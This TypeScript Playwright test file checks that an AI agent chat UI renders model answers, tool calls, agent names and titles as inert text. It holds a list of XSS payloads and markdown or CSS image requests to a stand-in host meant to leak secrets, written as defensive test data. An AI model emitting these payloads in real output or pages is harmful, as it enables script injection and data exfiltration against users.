import { afterAll, beforeAll, expect, test } from "bun:test";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { lastAnswer, openPage, scripted, startBrowser, unfold } from "../support/chromium";
import { type Server, serve } from "../support/executable";

const folder = mkdtempSync(join(tmpdir(), "everruns-ui-safety-"));
let browser: Browser;
let server: Server;

beforeAll(async () => {
  [browser, server] = await Promise.all([startBrowser(), serve(folder)]);
}, 60_000);
afterAll(async () => {
  await browser.close();
  await server[Symbol.asyncDispose]();
  rmSync(folder, { recursive: true, force: true });
});

/** Each would set `window.isOwned`, or ask another origin for something, where it is taken for more than words. */
const ATTACKS = [
  "<script>window.isOwned = true</script>",
  "<img src=x onerror='window.isOwned = true'>",
  "<svg onload='window.isOwned = true'><a xlink:href='javascript:window.isOwned = true'>x</a></svg>",
  "<iframe srcdoc='<script>parent.isOwned = true</script>'></iframe>",
  "[press me](javascript:window.isOwned=true)",
  "[press me too](&#106;avascript:window.isOwned=true)",
  "[and me](data:text/html,<script>opener.isOwned=true</script>)",
  "![a leak](https://stranger.example/leak.png?secret=1)",
  "![another][leak]\n\n[leak]: https://stranger.example/leak2.png",
  "<style>@import url(https://stranger.example/leak.css)</style>",
  "<link rel=stylesheet href=https://stranger.example/leak.css><base href=https://stranger.example/>",
  "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
  "<form action=https://stranger.example/><button>Sign in</button></form>",
  "```html\n<script>window.isOwned = true</script>\n```",
  "| <script>window.isOwned = true</script> | ![x](//stranger.example/t.png) |\n|---|---|\n| 1 | 2 |",
];

test("nothing that a model, a tool, a person or a title says can run or fetch", async () => {
  const hostile = ATTACKS.join("\n\n");
  const agent = await server.createAgent({
    name: `<img src=x onerror="window.isOwned = true">`,
    capabilities: ["current_time", "stateless_todo_list"],
  });
  const session = await server.createSession(agent.id, { title: `"><script>window.isOwned = true</script>` });
  const todos = [{ content: ATTACKS[1], activeForm: ATTACKS[0], status: "in_progress" }];
  const call = [
    { name: "write_todos", arguments: { todos } },
    { name: "get_current_time", arguments: { timezone: ATTACKS[1] } },
    { name: "<img src=x onerror=alert(1)>", arguments: {} },
  ];
  await server.ask(session, scripted(hostile, [{ reasoning: hostile, call }, { text: hostile }]));
  await server.ask(session, scripted("fail", [{ error: { code: "bad_request", message: hostile } }]));

  await using page = await openPage(browser, `${server.url}/sessions/${session.id}?trace=true`);
  await page.getByRole("region", { name: "Tool write_todos" }).waitFor();
  // All that is folded away is opened, so that all of it is there.
  await unfold(page);
  await page.getByText("press me", { exact: true }).first().waitFor();
  await page.getByRole("alert").last().waitFor();

  expect(await page.evaluate(() => ({ isOwned: "isOwned" in window, base: document.baseURI }))).toEqual({
    isOwned: false,
    base: page.url(),
  });
  expect(page.strangers).toEqual([]);
  expect(page.complaints).toEqual([]);
  const found = await page.evaluate(() => ({
    elements: document.querySelectorAll("main :is(script, iframe, object, embed, form[action], base, link, style)").length,
    images: [...document.images]
      .map(({ src }) => new URL(src).protocol + new URL(src).host)
      .filter((address) => !address.endsWith(location.host)),
    links: [...document.links].map(({ protocol }) => protocol).filter((protocol) => !/^https?:$/.test(protocol)),
    handlers: [...document.querySelectorAll("*")].flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith("on"))),
  }));
  expect(found).toEqual({ elements: 0, images: [], links: [], handlers: [] });
  expect(await page.getByRole("link", { name: "[Image: a leak]" }).first().getAttribute("rel")).toContain("noreferrer");
}, 40_000);

test("half-written markup of a stream is words too", async () => {
  const agent = await server.createAgent();
  const session = await server.createSession(agent.id);
  await using page = await openPage(browser, `${server.url}/sessions/${session.id}`);
  await server.say(
    session,
    scripted("go", [{ repeat: "<img src=x onerror='window.isOwned=1'> ![y](https://stranger.example/y.png) ", times: 40, delay_ms: 5 }]),
  );
  await page.getByText(/ in \/ /).waitFor();
  expect(await lastAnswer(page).locator("img").count()).toBe(0);
  expect(await page.evaluate(() => "isOwned" in window)).toBe(false);
  expect([page.strangers, page.complaints]).toEqual([[], []]);
}, 30_000);
